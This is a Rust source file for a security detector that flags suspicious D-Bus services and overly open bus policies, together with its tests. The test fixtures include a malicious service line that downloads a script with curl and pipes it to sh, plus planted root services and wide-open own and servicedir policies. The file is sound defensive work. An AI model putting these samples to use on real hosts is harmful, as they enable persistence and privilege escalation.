//! Detector: the message bus starts something odd, or lets everybody take or reach everything.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables, entry};
use calma_record::{Severity, kinds::StartupCommand, kinds::SystemSetting};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "bus-service",
        doc: "A service that the message bus (D-Bus) starts runs something odd, or a policy of the bus opens it to everybody.",
        mechanisms: &[55],
        attack: &["T1543", "T1548"],
        why: "Any account may ask the bus for a service, and the bus starts it as root; a policy that opens names lets others pass for it.",
        innocent: "a program you installed by hand brought it",
        next: "read the file and what it starts; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    weigh::startup_commands(tables, &["session bus service"], "A service of the session bus", drafts);
    for row in tables.of::<StartupCommand>().filter(|row| row.mechanism == "bus service") {
        let mut weight =
            weigh::command(&files, &row.command, row.as_root).and(weigh::changeable(&files, &row));
        let word = row.command.as_bytes().split(|b| *b == b' ').next().unwrap_or_default();
        let program = files.get(&word.into());
        let foreign =
            program.is_some_and(|file| file.packages_known && file.package.is_none() && file.what == "file");
        let packaged = weigh::is_below(row.path.as_bytes(), b"/usr/share");
        if foreign && row.packages_known && row.package.is_none() && packaged && row.as_root {
            let reason = "it stands among the services of packages and starts a program as root; no package owns either";
            weight = weight.and(Weight::of(Severity::Medium, reason));
            weight.paths.push(word.into());
        } else if foreign && row.package.is_some() {
            let reason = "the service is a package's, but the program it starts is no package's";
            weight = weight.and(Weight::of(Severity::Medium, reason));
            weight.paths.push(word.into());
        }
        if row.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        let title = "A service of the message bus runs something odd".to_owned();
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
    for row in tables.of::<SystemSetting>().filter(|row| row.area == "bus policy") {
        let weight = policy(&row);
        let identity = [row.path.as_bytes(), b"\0", row.name.as_bytes(), b"\0", row.whom.as_bytes()].concat();
        let written = format!("{}={} for {}", row.name, entry::short(&row.value), row.whom);
        let title = "A policy of the message bus opens it".to_owned();
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &written.into(), &row));
    }
}

fn policy(row: &SystemSetting) -> Weight {
    let root = row.whom == "user:root" || row.whom == "user:0" || row.whom == "group:root";
    let value = row.value.as_bytes();
    match row.name.as_str().unwrap_or_default() {
        "own" | "own_prefix" if value == b"*" && !root => Weight::of(
            Severity::High,
            format!("{} may take every name on the bus and so pass for any service", who(row)),
        ),
        "send_destination" if value == b"*" && !root => {
            Weight::of(Severity::Medium, format!("{} may call every service on the bus", who(row)))
        }
        "eavesdrop" if value == b"true" && !root && row.package.is_none() => {
            Weight::of(Severity::Medium, format!("{} may listen to what others say on the bus", who(row)))
        }
        "servicedir" | "includedir" | "include" | "servicehelper" => {
            let odd = weigh::is_open(value) || entry::is_hidden(value);
            let reason = format!("it brings in {}, which is no place for settings", row.value);
            if odd {
                Weight { paths: vec![row.value.clone()], ..Weight::of(Severity::High, reason) }
            } else {
                Weight::default()
            }
        }
        _ => Weight::default(),
    }
}

fn who(row: &SystemSetting) -> String {
    if row.whom == "*" { "everybody".to_owned() } else { format!("\"{}\"", row.whom) }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new()
            .file("/var/lib/dpkg/info/p.list", "/usr/share/dbus-1/system-services/org.a.service\n/usr/libexec/a\n/usr/share/dbus-1/system.conf\n")
            .file("/usr/libexec/a", "\x7fELF")
            .file("/usr/share/dbus-1/system-services/org.a.service", "[D-BUS Service]\nName=org.a\nExec=/usr/libexec/a --bus\nUser=root\n")
            .file("/usr/local/sbin/helper", "\x7fELF")
    }

    #[test]
    fn odd_services_and_open_policies_are_found() {
        let service = |exec: &str| format!("[D-BUS Service]\nName=org.x\nExec={exec}\nUser=root\n");
        for (path, text) in [
            ("/usr/share/dbus-1/system-services/org.x.service", service("/usr/local/sbin/helper")),
            ("/usr/local/share/dbus-1/system-services/n.service", service("/var/tmp/n")),
            ("/usr/share/dbus-1/system-services/org.a.service", service("/usr/local/sbin/helper")),
            (
                "/root/.local/share/dbus-1/services/a.service",
                service("/bin/sh -c 'curl -s http://192.0.2.1/a|sh'"),
            ),
            (
                "/etc/dbus-1/system.d/x.conf",
                "<busconfig><policy context=\"default\"><allow own=\"*\"/></policy></busconfig>".to_owned(),
            ),
            (
                "/etc/dbus-1/system-local.conf",
                "<busconfig><policy user=\"www-data\"><allow send_destination=\"*\"/></policy></busconfig>"
                    .to_owned(),
            ),
            (
                "/etc/dbus-1/system.d/y.conf",
                "<busconfig><servicedir>/dev/shm/s</servicedir></busconfig>".to_owned(),
            ),
        ] {
            let seen = check(host().file(path, &text));
            assert_eq!(seen.alarms("bus-service").len(), 1, "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn packaged_services_and_ordinary_policies_are_quiet() {
        let seen = check(
            host()
                .file("/usr/share/dbus-1/system.conf", "<busconfig><servicehelper>/usr/lib/dbus-1.0/dbus-daemon-launch-helper</servicehelper><policy context=\"default\"><allow user=\"*\"/><deny own=\"*\"/><allow send_type=\"signal\"/><allow send_destination=\"org.freedesktop.DBus\" send_interface=\"org.freedesktop.DBus\"/></policy><policy user=\"root\"><allow own=\"*\"/></policy></busconfig>")
                .file("/etc/dbus-1/system.d/app.conf", "<busconfig><policy user=\"app\"><allow own=\"org.app\"/></policy><policy context=\"default\"><allow send_destination=\"org.app\"/></policy></busconfig>")
                .file("/usr/share/dbus-1/system-services/org.b.service", "[D-BUS Service]\nName=org.b\nExec=/bin/false\nSystemdService=b.service\n"),
        );
        assert!(seen.by("bus-service").is_empty(), "{:#?}", seen.by("bus-service"));
    }
}
